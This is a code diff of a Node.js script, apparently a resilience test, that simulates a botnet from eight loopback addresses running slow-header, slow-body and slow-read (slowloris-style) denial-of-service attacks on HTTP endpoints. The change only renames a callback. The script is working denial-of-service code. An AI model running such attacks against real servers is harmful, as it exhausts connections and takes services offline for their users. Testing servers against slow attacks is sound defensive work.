@@ -10,21 +10,21 @@ const [kind, port, most, seconds] = [process.argv[2], ...process.argv.slice(3).m
 const kinds = {
   headers: {
     first: 'GET /api/applet/service/detail/1 HTTP/1.1\r\nhost: a\r\nx-slow: ',
-    then: (socket) => socket.write('a'),
+    goOn: (socket) => socket.write('a'),
   },
   bodies: {
     first:
       'POST /api/applet/auth/pc_login HTTP/1.1\r\nhost: a\r\nx-requested-with: XMLHttpRequest\r\n' +
       'content-type: application/json\r\ncontent-length: 100000\r\n\r\n{',
-    then: (socket) => socket.write(' '),
+    goOn: (socket) => socket.write(' '),
   },
   readers: {
     first: 'GET /media/uploads/large.png HTTP/1.1\r\nhost: a\r\n\r\n',
     // Just what the server takes for a line that is slow but goes on.
-    then: (socket) => socket.read(700),
+    goOn: (socket) => socket.read(700),
   },
 };
-const { first, then } = kinds[kind];
+const { first, goOn } = kinds[kind];
 
 /** From several addresses, as a botnet has them; each of them all three kinds. */
 const addresses = Array.from({ length: 8 }, (_, n) => `127.0.1.${n + 1}`);
@@ -43,7 +43,7 @@ function attack(n) {
   socket.once('connect', () => {
     open.add(socket);
     socket.write(first);
-    going = setInterval(() => then(socket), 1000);
+    going = setInterval(() => goOn(socket), 1000);
   });
   socket.on('error', () => {});
   socket.once('close', () => {
